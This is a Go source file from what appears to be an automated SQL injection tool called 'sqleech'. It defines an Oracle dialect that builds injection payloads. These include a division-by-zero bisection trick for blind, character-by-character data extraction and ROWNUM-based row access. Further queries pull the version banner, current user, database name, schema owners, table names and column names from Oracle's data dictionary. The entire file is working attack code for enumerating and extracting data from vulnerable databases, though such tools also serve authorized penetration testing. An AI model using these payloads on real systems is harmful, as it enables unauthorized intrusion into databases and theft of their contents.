package forge

import (
	"fmt"
	"strings"

	"github.com/0x6d61/sqleech/internal/sqlictx"
)

// Oracle overrides the primitives whose syntax differs from the
// MySQL-like Base default. Oracle has no "database" concept analogous to
// MySQL's schemata; schemas ("owners" in the data dictionary) play that
// role, and every scalar SELECT must carry a FROM clause, hence "FROM
// dual". Row access uses ROWNUM rather than LIMIT. This dialect is not
// named in the distilled spec's three-dialect example table but is
// supplemented from the original tool (see _examples/original_source),
// which supports it.
type Oracle struct {
	Base
}

// NewOracle constructs an Oracle forge bound to ctx.
func NewOracle(ctx *sqlictx.Context) *Oracle {
	return &Oracle{Base: NewBase(ctx)}
}

func (o *Oracle) Name() string { return "Oracle" }

func (o *Oracle) ConcatStr(parts ...string) string {
	return strings.Join(parts, "||")
}

func (o *Oracle) GetChar(s string, pos int) string {
	return fmt.Sprintf("SUBSTR(%s,%d,1)", s, pos)
}

func (o *Oracle) StringLen(s string) string { return fmt.Sprintf("LENGTH(%s)", s) }

// WrapBisec evaluates to the scalar 1 (success, matches the surrounding
// "=1" comparison built by WrapSQL) when cdt is true, and raises a
// division-by-zero error otherwise. Every Oracle scalar SELECT needs a
// FROM clause; "dual" is the canonical single-row table for this.
func (o *Oracle) WrapBisec(cdt string) string {
	return fmt.Sprintf("SELECT CASE WHEN (%s) THEN 1 ELSE 1/0 END FROM dual", cdt)
}

// Take returns the 0-based i-th record via the ROWNUM pseudo-column.
func (o *Oracle) Take(records string, i int) string {
	return fmt.Sprintf(
		"(SELECT * FROM (SELECT t.*, ROWNUM rnum FROM (%s) t) WHERE rnum=%d)",
		records, i+1,
	)
}

func (o *Oracle) GetVersion() string         { return "(SELECT banner FROM v$version WHERE ROWNUM=1)" }
func (o *Oracle) GetUser() string            { return "(SELECT user FROM dual)" }
func (o *Oracle) GetCurrentDatabase() string { return "(SELECT ora_database_name FROM dual)" }

// GetDatabases enumerates schema owners -- Oracle's closest analog to
// MySQL's per-database schemata, since a single Oracle instance hosts
// one data dictionary shared across users/schemas.
func (o *Oracle) GetDatabases() (string, error) {
	return "SELECT username FROM all_users", nil
}

func (o *Oracle) GetTables(db string) (string, error) {
	return fmt.Sprintf("SELECT table_name FROM all_tables WHERE owner=%s", o.WrapString(db)), nil
}

func (o *Oracle) GetFields(table, db string) (string, error) {
	return fmt.Sprintf(
		"SELECT column_name FROM all_tab_columns WHERE table_name=%s AND owner=%s",
		o.WrapString(table), o.WrapString(db),
	), nil
}
